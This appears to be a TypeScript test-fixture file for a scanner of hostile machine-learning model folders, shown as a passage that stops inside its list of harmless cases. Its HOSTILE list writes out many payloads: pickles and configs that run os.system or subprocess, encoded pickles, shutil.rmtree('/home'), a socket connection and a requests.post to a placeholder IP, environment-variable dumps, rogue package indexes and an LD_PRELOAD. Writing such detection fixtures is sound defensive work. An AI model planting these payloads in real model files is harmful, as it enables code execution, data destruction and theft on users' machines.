import { deflateSync } from 'node:zlib';

/** Folders as people publish them, and what an attacker makes of them. Contents are one character for each byte. Nothing is loaded. */
export type Files = Readonly<Record<string, string>>;

export const EVIL = "import os\nos.system('id')\n";
export const WEIGHTS = '\x80\x02]q\x00(K\x01K\x02e.';
const PICKLE = '\x80\x02cposix\nsystem\nX\x02\x00\x00\x00id\x85R.';
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const HARMLESS_PICKLE = base64(WEIGHTS);
const CONFIG = '{"model_type": "bert", "hidden_size": 8, "architectures": ["BertModel"]}';
const json = (value: unknown): string => JSON.stringify(value, undefined, 2);
const beside = (name: string, content: string, more: Files = {}): Files => ({
  'model.pkl': WEIGHTS,
  [name]: content,
  ...more,
});
const mlflow = (function_: string, more: Files = {}): Files => ({
  'model/MLmodel': `flavors:\n  python_function:\n${function_}\nmlflow_version: 2.9.0\nmodel_uuid: x\n`,
  'model/data/model.pkl': WEIGHTS,
  ...more,
});

const constructor = (id: readonly string[], kwargs: object = {}): object => ({
  lc: 1,
  type: 'constructor',
  id,
  kwargs,
});
const torchServe = (handler: string): string =>
  json({ runtime: 'python', model: { modelName: 'm', serializedFile: 'model.pkl', handler, modelVersion: '1.0' } });
const inFunction = (body: string): string => `class Net:\n  def forward(self, x):\n    ${body}\n    return x\n`;

/** Each is to be accused. */
export const HOSTILE: readonly (readonly [what: string, files: Files])[] = [
  // Code in a folder around
  [
    'a target of a package above',
    { 'conf/m/c.yaml': 'x:\n  _target_: own.models.Net\n', 'conf/m/model.pkl': WEIGHTS, 'own/models.py': EVIL },
  ],
  [
    'a target of a package in src above',
    { 'conf/c.yaml': 'x:\n  _target_: own.models.Net\n', 'conf/model.pkl': WEIGHTS, 'src/own/models.py': EVIL },
  ],
  [
    'an unpacked archive of TorchServe',
    beside('MAR-INF/MANIFEST.json', torchServe('my_handler.py:run'), { 'my_handler.py': EVIL }),
  ],
  [
    'an unpacked archive of TorchServe, by a module',
    beside('MAR-INF/MANIFEST.json', torchServe('my_handler'), { 'my_handler.py': EVIL }),
  ],
  ['a bento', beside('bento.yaml', 'service: service:svc\nname: m\n', { 'src/service.py': EVIL })],
  [
    'an application of Ray Serve',
    beside('serve.yaml', 'applications:\n  - import_path: app:run\n', { 'app.py': EVIL }),
  ],
  ['a component of Rasa', beside('config.yml', 'pipeline:\n  - name: own.part.Clean\n', { 'own/part.py': EVIL })],
  ['a component of Rasa by its name', beside('config.yml', 'pipeline:\n  - name: os.system\n    command: id\n')],
  ['a package that AllenNLP includes', beside('config.json', json({ include_package: ['own'] }), { 'own.py': EVIL })],
  [
    'an import of MONAI',
    beside('c.json', json({ x: { _target_: 'monai.utils.optional_import', module: 'os', name: 'system' } })),
  ],
  ['a configuration in Python', beside('config.py', EVIL)],
  [
    'a further chat template',
    beside('additional_chat_templates/tool.jinja', "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
  ],
  [
    'a layer of sentence-transformers without weights',
    beside('2_Dense/config.json', json({ activation_function: 'os.system' })),
  ],
  [
    'a library of operations for Triton',
    {
      'config.pbtxt': 'platform: "tensorflow_graphdef"\nmodel_operations { op_library_filename: [ "/tmp/x.so" ] }\n',
      '1/model.pkl': WEIGHTS,
    },
  ],
  // LangChain
  ['an object of LangChain', beside('c.json', json(constructor(['subprocess', 'Popen'], { args: ['id'] })))],
  [
    'a shell in a chain',
    beside(
      'c.json',
      json(
        constructor(['langchain', 'chains', 'LLMChain'], {
          tool: constructor(['langchain_community', 'tools', 'shell', 'ShellTool']),
        }),
      ),
    ),
  ],
  // What code does with places and addresses, in a function that a loader may call
  ...[
    "open('/etc/hosts', 'a').write('192.0.2.1 x')",
    "import os, base64; open('x', 'wb').write(base64.b64encode(repr(dict(os.environ)).encode()))",
    "import sys; sys.path.insert(0, '/tmp/x'); import helper",
    "import shutil; shutil.rmtree('/home')",
    "import socket; s = socket.socket(); s.connect(('192.0.2.7', 4444))",
    "open('numpy.py', 'w').write('x')",
    "import requests; requests.post('http://192.0.2.7/x')",
  ].map(
    (body) =>
      [
        `a module: ${body}`,
        beside('config.json', json({ auto_map: { AutoModel: 'own.Net' } }), { 'own.py': inFunction(body) }),
      ] as const,
  ),
  // Targets by name
  ['a target', beside('c.yaml', 'm:\n  _target_: os.system\n  command: id\n')],
  ['a target under vocab', beside('c.yaml', 'vocab:\n  _target_: os.system\n  command: id\n')],
  ['a target under merges, in JSON', beside('c.json', json({ merges: { _target_: 'subprocess.run', args: 'id' } }))],
  ['an interpolated target', beside('c.yaml', 'm: os\nf: system\nx:\n  _target_: ${m}.${f}\n  command: id\n')],
  ['a target interpolated deeper', beside('c.yaml', 'a:\n  b: os.sys\nx:\n  _target_: ${a.b}tem\n  command: id\n')],
  ['a target interpolated from beside', beside('c.yaml', 'x:\n  n: os.system\n  _target_: ${.n}\n  command: id\n')],
  ['get_method', beside('c.yaml', 'x:\n  _target_: hydra.utils.get_method\n  path: os.system\n')],
  [
    'get_object in JSON',
    beside('c.json', json({ x: { _target_: 'hydra.utils.get_object', path: 'subprocess.Popen' } })),
  ],
  [
    'a target through an own library',
    beside('c.yaml', 'x:\n  _target_: torch.serialization.os.system\n  command: id\n'),
  ],
  ['a target through NeMo', beside('c.yaml', 'x:\n  _target_: nemo.utils.exp_manager.subprocess.run\n  args: id\n')],
  ['a target of a tool of a library', beside('c.yaml', 'x:\n  _target_: torch.utils.collect_env.run\n  command: id\n')],
  [
    'a loader as a target',
    beside('c.yaml', 'x:\n  _target_: mlflow.pyfunc.load_model\n  model_uri: http://192.0.2.1/x\n'),
  ],
  ['torch.load as a target', beside('c.yaml', 'x:\n  _target_: torch.load\n  f: other.pt\n')],
  ['torch.hub.load as a target', beside('c.yaml', 'x:\n  _target_: torch.hub.load\n  repo_or_dir: a/b\n')],
  ['class_path of Lightning', beside('c.yaml', 'model:\n  class_path: subprocess.Popen\n  init_args:\n    args: id\n')],
  ['the target of latent diffusion', beside('c.yaml', 'model:\n  target: os.system\n  params:\n    command: id\n')],
  ['the type of mmengine', beside('c.json', json({ model: { type: 'os.system', command: 'id' } }))],
  [
    'a partial target',
    beside('c.yaml', 'x:\n  _target_: functools.partial\n  _args_:\n    - ${get_method:os.system}\n'),
  ],
  ['a target in a list', beside('c.yaml', 'callbacks:\n  - _target_: builtins.eval\n    _args_: ["1"]\n')],
  ['a target by an environment variable', beside('c.yaml', 'x:\n  _target_: ${oc.env:T,os.system}\n')],
  ['a target behind an alias', beside('c.yaml', 'a: &a\n  _target_: os.system\nx:\n  <<: *a\n  command: id\n')],
  ['a target in TOML', beside('c.toml', '[x]\n_target_ = "os.system"\ncommand = "id"\n')],
  ['an expression of MONAI', beside('inference.json', json({ imports: ['$import os'], run: "$os.system('id')" }))],
  ['an expression of MONAI by __import__', beside('inference.yaml', "run: \"$__import__('os').popen('id').read()\"\n")],
  [
    'an expression of MONAI by getattr',
    beside('inference.json', json({ imports: ['$import os'], run: "$getattr(os, 'sys' + 'tem')('id')" })),
  ],
  [
    'an import of MONAI that is a statement',
    beside(
      'inference.json',
      json({ run: '$@x', x: "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id')" }),
    ),
  ],
  [
    'a row of YOLO',
    beside(
      'yolo.yaml',
      "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 1, \"__import__('os').system('id')\", []]\nhead: []\n",
    ),
  ],
  [
    'an argument in a row of YOLO',
    beside('yolo.yaml', "nc: 80\nbackbone:\n  - [-1, 1, Conv, [\"__import__('os').popen('id')\", 3]]\nhead: []\n"),
  ],
  [
    'an activation of YOLO',
    beside('yolo.yaml', "nc: 80\nactivation: exec('import os; os.popen(chr(105))')\nbackbone: []\nhead: []\n"),
  ],
  [
    'an object of jsonpickle',
    beside('c.json', json({ 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] })),
  ],
  ['a type of jsonpickle', beside('c.json', json({ a: { 'py/object': 'subprocess.Popen', args: 'id' } }))],
  // Hugging Face, diffusers, sentence-transformers, PEFT
  [
    'a component of diffusers',
    {
      'model_index.json': json({ _class_name: 'P', _diffusers_version: '0.2', scheduler: ['shutil', 'rmtree'] }),
      'unet/model.pkl': WEIGHTS,
    },
  ],
  [
    'a component of diffusers that starts programs',
    {
      'model_index.json': json({ _class_name: 'P', _diffusers_version: '0.2', vae: ['subprocess', 'Popen'] }),
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'a component of diffusers with code',
    {
      'model_index.json': json({ _class_name: 'P', _diffusers_version: '0.2', unet: ['my_unet', 'MyUNet'] }),
      'unet/my_unet.py': EVIL,
      'unet/model.pkl': WEIGHTS,
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'a pipeline of diffusers with code',
    {
      'model_index.json': json({ _class_name: ['my_pipe', 'MyPipe'], _diffusers_version: '0.2' }),
      'my_pipe.py': EVIL,
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'a route of sentence-transformers',
    beside('router_config.json', json({ types: { q: 'shutil.rmtree' }, structure: { q: ['q'] } })),
  ],
  [
    'a module of sentence-transformers',
    beside('modules.json', json([{ idx: 0, name: '0', path: '', type: 'os.system' }])),
  ],
  [
    'a module of sentence-transformers with code',
    beside('modules.json', json([{ idx: 0, name: '0', path: '', type: 'custom_pooling.Pool' }]), {
      'custom_pooling.py': EVIL,
    }),
  ],
  [
    'a module of sentence-transformers with code, in a folder of Hugging Face',
    {
      'config.json': CONFIG,
      'model.safetensors': '',
      'modules.json': json([{ idx: 0, name: '0', path: '', type: 'custom_pooling.Pool' }]),
      'custom_pooling.py': EVIL,
    },
  ],
  [
    'a tokenizer with code of a name of its own, in a folder of Hugging Face',
    {
      'config.json': CONFIG,
      'model.safetensors': '',
      'tokenizer_config.json': json({ auto_map: { AutoTokenizer: ['splitting.Words', null] } }),
      'splitting.py': EVIL,
    },
  ],
  [
    'a mapping of PEFT',
    beside(
      'adapter_config.json',
      json({ peft_type: 'LORA', auto_mapping: { base_model_class: 'Popen', parent_library: 'subprocess' } }),
    ),
  ],
  [
    'a mapping of PEFT that deletes',
    beside('adapter_config.json', json({ auto_mapping: { parent_library: 'shutil', base_model_class: 'rmtree' } })),
  ],
  [
    'a mapping of PEFT with code',
    beside(
      'adapter_config.json',
      json({ peft_type: 'LORA', auto_mapping: { base_model_class: 'M', parent_library: 'own_base' } }),
      { 'own_base.py': EVIL },
    ),
  ],
  [
    'auto_map',
    {
      'config.json': json({ model_type: 'x', auto_map: { AutoModel: 'modeling_x.X' } }),
      'modeling_x.py': EVIL,
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'auto_map with letters of another script',
    {
      'config.json': Buffer.from(json({ model_type: 'x', auto_map: { AutoModel: 'modèle.X' } })).toString('latin1'),
      [Buffer.from('modèle.py').toString('utf8')]: EVIL,
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'auto_map into a folder',
    {
      'config.json': json({ model_type: 'x', auto_map: { AutoModel: 'code.deep.X' } }),
      'code/deep.py': EVIL,
      'model.pkl': WEIGHTS,
    },
  ],
  ['a handler of an endpoint', beside('handler.py', EVIL)],
  [
    'a handler that imports from beside',
    beside('handler.py', 'from helper import x\nclass EndpointHandler: pass\n', { 'helper.py': EVIL }),
  ],
  [
    'code of a way to generate',
    { 'config.json': CONFIG, 'model.safetensors': '', 'custom_generate/generate.py': EVIL, 'model.pkl': WEIGHTS },
  ],
  // MLflow
  ['a loader of MLflow', mlflow('    loader_module: my_loader\n    code: code', { 'model/code/my_loader.py': EVIL })],
  [
    'a package of MLflow',
    mlflow('    loader_module: pkg.load\n    code: code', {
      'model/code/pkg/__init__.py': '',
      'model/code/pkg/load.py': EVIL,
    }),
  ],
  [
    'code of MLflow that something imports',
    mlflow('    loader_module: mlflow.sklearn\n    code: code', { 'model/code/util.py': EVIL }),
  ],
  [
    'a model of MLflow that is code',
    mlflow('    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py', { 'model/agent.py': EVIL }),
  ],
  ['code of MLflow that lies elsewhere', mlflow('    loader_module: x\n    code: ../../elsewhere')],
  [
    'packages of MLflow',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/requirements.txt': '-ihttps://packages.example.net/simple\nx\n',
    }),
  ],
  [
    'packages of MLflow, in a Python environment',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/python_env.yaml':
        'python: 3.11\nbuild_dependencies:\n- --index-url=https://packages.example.net/simple\n- pip\n',
    }),
  ],
  [
    'packages of MLflow, in the dependencies of it',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/python_env.yaml': 'python: 3.11\ndependencies:\n- -ihttps://packages.example.net/simple\n',
    }),
  ],
  [
    'packages of MLflow, in a conda environment',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/conda.yaml':
        'dependencies:\n- python=3.11\n- pip:\n  - --extra-index-urlhttps://packages.example.net/simple\n',
    }),
  ],
  [
    'a channel of a conda environment',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/conda.yaml': 'channels:\n- https://packages.example.net/conda\ndependencies:\n- python=3.11\n',
    }),
  ],
  [
    'variables of a conda environment',
    mlflow('    loader_module: mlflow.sklearn', {
      'model/conda.yaml': 'dependencies:\n- python=3.11\nvariables:\n  LD_PRELOAD: ./evil.so\n',
    }),
  ],
  [
    'an index by an abbreviated option',
    mlflow('    loader_module: x.y', { 'model/requirements.txt': '--index-u https://packages.example.net/simple\n' }),
  ],
  [
    'an index over two lines',
    mlflow('    loader_module: x.y', {
      'model/requirements.txt': '--index-url \\\n  https://packages.example.net/simple\n',
    }),
  ],
  [
    'an index in quotes',
    mlflow('    loader_module: x.y', {
      'model/requirements.txt': '--index-url "https://packages.example.net/simple"\n',
    }),
  ],
  [
    'a trusted host',
    mlflow('    loader_module: x.y', { 'model/requirements.txt': '--trusted-host packages.example.net\n' }),
  ],
  [
    'a package without encryption',
    mlflow('    loader_module: x.y', { 'model/requirements.txt': 'x @ http://packages.example.net/x.whl\n' }),
  ],
  [
    'a set-up that is installed',
    mlflow('    loader_module: x.y', { 'model/requirements.txt': './pkg\n', 'model/pkg/setup.py': EVIL }),
  ],
  // Code one folder away
  ['the script that loads, above', { 'weights/model.pkl': WEIGHTS, 'load.py': EVIL }],
  ['the model code in src', { 'weights/model.pkl': WEIGHTS, 'src/modeling.py': EVIL }],
  ['the model code above', { 'checkpoints/a/model.pkl': WEIGHTS, 'modeling_x.py': EVIL }],
  ['the hub script above', { 'weights/model.pkl': WEIGHTS, 'hubconf.py': EVIL }],
  ['the inference code of SageMaker', { 'model.pkl': WEIGHTS, 'code/inference.py': EVIL }],
  [
    'a model of Triton',
    { 'net/config.pbtxt': 'backend: "python"\n', 'net/1/model.py': EVIL, 'net/1/model.pkl': WEIGHTS },
  ],
  [
    'the predictor of cog',
    { 'model.pkl': WEIGHTS, 'cog.yaml': 'predict: "predict.py:Predictor"\n', 'predict.py': EVIL },
  ],
  ['a file that Python reads when it starts', { 'model.pkl': WEIGHTS, 'src/sitecustomize.py': EVIL }],
  // Pickles in texts
  ['a pickle in JSON', beside('data.json', json({ policy: { ':type:': 'x', ':serialized:': base64(PICKLE) } }))],
  ['a pickle in JSON under another key', beside('data.json', json({ state: base64(PICKLE) }))],
  ['a pickle in hex in JSON', beside('data.json', json({ state: Buffer.from(PICKLE, 'latin1').toString('hex') }))],
  ['a pickle in YAML', beside('data.yaml', `state: ${base64(PICKLE)}\n`)],
  ['binary in YAML', beside('data.yaml', `state: !!binary |\n  ${base64(PICKLE)}\n`)],
  ['a pickle in XML', beside('data.xml', `<a><state>${base64(PICKLE)}</state></a>`)],
  ['a pickle in an attribute of XML', beside('data.xml', `<a state="${base64(PICKLE)}"/>`)],
  ['a pickle in TOML', beside('data.toml', `state = "${base64(PICKLE)}"\n`)],
  ['a pickle in INI', beside('data.ini', `[a]\nstate = ${base64(PICKLE)}\n`)],
  [
    'a packed pickle in JSON',
    beside('data.json', json({ state: deflateSync(Buffer.from(PICKLE, 'latin1')).toString('base64') })),
  ],
  // skops, Keras
  [
    'a function of skops, protocol 0',
    beside(
      'schema.json',
      json({
        __class__: 'function',
        __module__: 'builtins',
        __loader__: 'FunctionNode',
        content: { module_path: 'os', function: 'system' },
      }),
    ),
  ],
  [
    'a type of skops',
    beside(
      'schema.json',
      json({
        __class__: 'type',
        __module__: 'builtins',
        __loader__: 'TypeNode',
        content: { __class__: 'Popen', __module__: 'subprocess' },
      }),
    ),
  ],
  [
    'a registered name of Keras',
    beside(
      'config.json',
      json({
        class_name: 'Sequential',
        config: { layers: [{ class_name: 'function', module: 'os', config: 'system', registered_name: 'system' }] },
      }),
    ),
  ],
  [
    'a module of Keras',
    beside(
      'config.json',
      json({
        class_name: 'Sequential',
        config: { layers: [{ module: 'subprocess', class_name: 'Popen', registered_name: 'x', config: {} }] },
      }),
    ),
  ],
  [
    'vocab list',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.json': '{"vocab": [{"_target_": "os.system"}]}' },
  ],
  [
    'oc.select',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.yaml': 'x:\n  _target_: ${oc.select:nope,os.system}\n' },
  ],
  [
    'indexed interpolation',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': 'n: [os, system]\nx:\n  _target_: ${n[0]}.${n[1]}\n',
    },
  ],
  [
    'nested interpolation',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.yaml': 'k: n\nn: os.system\nx:\n  _target_: ${${k}}\n' },
  ],
  [
    'flow mapping',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.yaml': 'x: {_target_: os.system, command: id}\n' },
  ],
  [
    'anchor value',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.yaml': 't: &t os.system\nx:\n  _target_: *t\n' },
  ],
  [
    'eval resolver',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': "x: ${eval:\"__import__('os').system('id')\"}\n",
    },
  ],
  [
    'inductor',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': 'x:\n  _target_: torch._inductor.codecache.compile_file\n',
    },
  ],
  [
    'hydra get_static_method',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': 'x:\n  _target_: hydra.utils.get_static_method\n  path: subprocess.Popen\n',
    },
  ],
  [
    'monai cross',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'i.json': '{"m": "$__import__(\'os\')", "run": "$@m.system(\'id\')"}',
    },
  ],
  [
    'monai cross names',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'i.json': '{"imports": ["$import os"], "n": "system", "run": "$getattr(os, @n)(\'id\')"}',
    },
  ],
  [
    'monai nested id',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'i.json': '{"a": {"m": "$__import__(\'os\')"}, "run": ["$@a#m.popen(\'id\')"]}',
    },
  ],
  [
    'data uri',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"a": "data:application/octet-stream;base64,gAJjcG9zaXgKc3lzdGVtClgCAAAAaWSFUi4="}',
    },
  ],
  [
    'shown bytes',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"a": "b\'gAJjcG9zaXgKc3lzdGVtClgCAAAAaWSFUi4=\'"}',
    },
  ],
  [
    'gzip',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"a": "H4sIAL/VDGsC/2tgSi7IL86s4CquLC5JzeWKYGJgYMhMaQ3SAwBo02UTGgAAAA=="}',
    },
  ],
  [
    'bz2',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': 'a: QlpoOTFBWSZTWZY3U5UAAAxTwFAQAAEQQA4izGBCACAAIp6gNNGmnpCmTEyDIwCVzvyQiMVLlzC40DHxdyRThQkJY3U5UA==\n',
    },
  ],
  [
    'xz',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml':
        'a: /Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAZgAJjcG9zaXgKc3lzdGVtClgCAAAAaWSFUi4AAAA3oSI5745+TgABMhogGJQwH7bzfQEAAAAABFla\n',
    },
  ],
  [
    'protocol 0',
    { 'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.', 'c.json': '{"a": "Y29zCnN5c3RlbQooUydpZCcKdFIu"}' },
  ],
  [
    'hex zlib',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"a": "789c6b604a2ec82fceace02aae2c2e49cde58a60626060c84c690dd2030075e007fe"}',
    },
  ],
  [
    'cdata',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.xml': '<a><![CDATA[gAJjcG9zaXgKc3lzdGVtClgCAAAAaWSFUi4=]]></a>',
    },
  ],
  [
    'handler package',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'handler.py': 'import helpers\nclass EndpointHandler: pass\n',
      'helpers/__init__.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'handler package module',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'handler.py': 'from helpers import io2\nclass EndpointHandler: pass\n',
      'helpers/__init__.py': '',
      'helpers/io2.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'deep src',
    {
      'weights/m.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'src/net/modeling_x.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'load imports',
    {
      'weights/m.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'load.py': 'from nets import Net\n',
      'nets.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'hubconf imports',
    {
      'm.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'hubconf.py': 'from src.net import N\n',
      'src/net.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'auto_map tokenizer list',
    {
      'tokenizer_config.json': '{"auto_map": {"AutoTokenizer": ["tok_x.Slow", null]}}',
      'tok_x.py': "import os\nos.system('id')\n",
      'm.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
    },
  ],
  [
    'auto_map relative chain',
    {
      'config.json': '{"auto_map": {"AutoModel": "a.X"}}',
      'a.py': 'from .b import y\n',
      'b.py': 'from .c import z\n',
      'c.py': "import os\nos.system('id')\n",
      'm.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
    },
  ],
  [
    'custom_pipelines',
    {
      'config.json': '{"model_type": "x", "custom_pipelines": {"p": {"impl": "pipe_x.P"}}}',
      'pipe_x.py': "import os\nos.system('id')\n",
      'm.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
    },
  ],
  [
    'mlflow agent only',
    {
      'm/MLmodel':
        'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n',
      'm/agent.py': "import os\nos.system('id')\n",
    },
  ],
  [
    'mlflow other code folder',
    {
      'm/MLmodel': 'flavors:\n  python_function:\n    loader_module: a.b\n    code: my_src\n',
      'm/my_src/a/b.py': "import os\nos.system('id')\n",
      'm/data/m.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
    },
  ],
  [
    'mlflow env by another name',
    {
      'm/MLmodel': 'flavors:\n  python_function:\n    env: other.yaml\n',
      'm/other.yaml': 'dependencies:\n- pip:\n  - --index-url https://packages.example.net\n',
      'm/data/m.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
    },
  ],
  [
    'peft nested library',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'adapter_config.json': '{"auto_mapping": {"parent_library": "os", "base_model_class": "system"}}',
    },
  ],
  [
    'mmengine list',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"hooks": [{"type": "subprocess.Popen", "args": "id"}]}',
    },
  ],
  [
    'jsonpickle reduce',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"py/object": "__main__.A", "py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["id"]]}]}',
    },
  ],
];

const NET = 'import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n';

/** They name code that is not there: none is accused, and none clean. */
export const UNKNOWN: readonly (readonly [what: string, files: Files])[] = [
  ['a target of another project', beside('c.yaml', 'model:\n  _target_: src.models.net.Net\n  width: 8\n')],
  ['a class_path of another project', beside('c.yaml', 'model:\n  class_path: myproject.Model\n  init_args: {x: 1}\n')],
  ['a loader of MLflow that is not there', mlflow('    loader_module: own_loader')],
];

/** None may be accused. */
export const HARMLESS: readonly (readonly [what: string, files: Files])[] = [
  [
    'a chain of LangChain',
    beside(
      'c.json',
      json(
        constructor(['langchain', 'chains', 'llm', 'LLMChain'], {
          llm: constructor(['langchain', 'llms', 'openai', 'OpenAI'], {
            openai_api_key: { lc: 1, type: 'secret', id: ['OPENAI_API_KEY'] },
          }),
        }),
      ),
    ),
  ],
  [
    'an unpacked archive of TorchServe, its own handler',
    beside('MAR-INF/MANIFEST.json', torchServe('image_classifier')),
  ],
  [
    'components of Rasa',
    beside('config.yml', 'pipeline:\n  - name: WhitespaceTokenizer\n  - name: own.part.Clean\n', {
      'own/part.py': 'class Clean:\n  pass\n',
    }),
  ],
  [
    'a model of Triton',
    {
      'config.pbtxt': 'name: "m"\nbackend: "python"\nmax_batch_size: 8\n',
      '1/model.py': 'import json\nclass TritonPythonModel:\n  pass\n',
      '1/model.pkl': WEIGHTS,
    },
  ],
  [
    'a configuration of MMEngine',
    beside('config.py', "_base_ = ['../default.py']\nmodel = dict(type='MaskRCNN')\ndata_root = '/data/coco/'\n"),
  ],
  [
    'a module of sentence-transformers with code of its own, in a folder of Hugging Face',
    {
      'config.json': CONFIG,
      'model.safetensors': '',
      'modules.json': json([{ idx: 0, name: '0', path: '', type: 'custom_pooling.Pool' }]),
      'custom_pooling.py':
        'import torch\nclass Pool(torch.nn.Module):\n  def forward(self, x):\n    return x.mean(1)\n',
    },
  ],
  [
    'modules of sentence-transformers and a script that nothing loads, in a folder of Hugging Face',
    {
      'config.json': CONFIG,
      'model.safetensors': '',
      'modules.json': json([{ idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' }]),
      'export.py': EVIL,
    },
  ],
  [
    'targets of usual libraries',
    beside(
      'c.yaml',
      'model:\n  _target_: torch.nn.Linear\n  in_features: 8\nopt:\n  _target_: torch.optim.AdamW\n  lr: ${lr}\nlr: 0.1\ntransform:\n  _target_: torchvision.transforms.Compose\nlogger:\n  _target_: pytorch_lightning.loggers.TensorBoardLogger\n',
    ),
  ],
  [
    'a target of the own project',
    beside(
      'c.yaml',
      'model:\n  _target_: src.models.net.Net\n  width: ${oc.env:WIDTH,8}\ndata:\n  _target_: myproject.data.${data_name}.Data\ndata_name: mnist\n',
      { 'src/models/net.py': NET, 'myproject/data/mnist.py': 'class Data:\n    pass\n' },
    ),
  ],
  ['get_class of the own project', beside('c.yaml', 'x:\n  _target_: hydra.utils.get_class\n  path: torch.nn.ReLU\n')],
  [
    'class_path',
    beside(
      'c.yaml',
      'model:\n  class_path: myproject.Model\n  init_args:\n    x: 1\ntrainer:\n  callbacks:\n    - class_path: lightning.pytorch.callbacks.ModelCheckpoint\n',
      { 'myproject/__init__.py': NET },
    ),
  ],
  [
    'types of mmengine',
    beside(
      'c.json',
      json({
        model: { type: 'mmdet.FasterRCNN', backbone: { type: 'ResNet' } },
        optim_wrapper: { type: 'OptimWrapper' },
      }),
    ),
  ],
  [
    'types of other things',
    beside(
      'c.json',
      json({
        a: { type: 'image.png' },
        b: { type: 'text/plain' },
        c: { type: 'float32' },
        d: { type: 'os.path' },
        columns: [{ type: 'sys.name' }],
      }),
    ),
  ],
  [
    'a bundle of MONAI',
    beside(
      'inference.json',
      json({
        imports: ['$import glob', '$import os'],
        bundle_root: '.',
        device: "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        datalist: "$list(sorted(glob.glob(@bundle_root + '/*.nii.gz')))",
        network_def: { _target_: 'UNet', spatial_dims: 3 },
        network: '$@network_def.to(@device)',
        out: "$os.path.join(@bundle_root, 'eval')",
        evaluator: { _target_: 'SupervisedEvaluator' },
        run: ['$@evaluator.run()'],
        x: '$monai.utils.set_determinism(seed=0)',
      }),
    ),
  ],
  [
    'a model of YOLO',
    beside(
      'yolo.yaml',
      'nc: 80\ndepth_multiple: 0.33\nactivation: nn.SiLU()\nanchors:\n  - [10,13, 16,30]\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 3, C3, [128]]\nhead:\n  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]\n  - [[-1, 6], 1, Concat, [1]]\n  - [[17, 20, 23], 1, Detect, [nc, anchors]]\n',
    ),
  ],
  [
    'prices and shells',
    beside('c.json', json({ price: '$5', cmd: '$HOME/bin', re: '^a$', t: '${x}', var: '$VAR', chat: '$$ cost $$' })),
  ],
  [
    'components of diffusers',
    {
      'model_index.json': json({
        _class_name: 'StableDiffusionPipeline',
        _diffusers_version: '0.30',
        scheduler: ['diffusers', 'PNDMScheduler'],
        text_encoder: ['transformers', 'CLIPTextModel'],
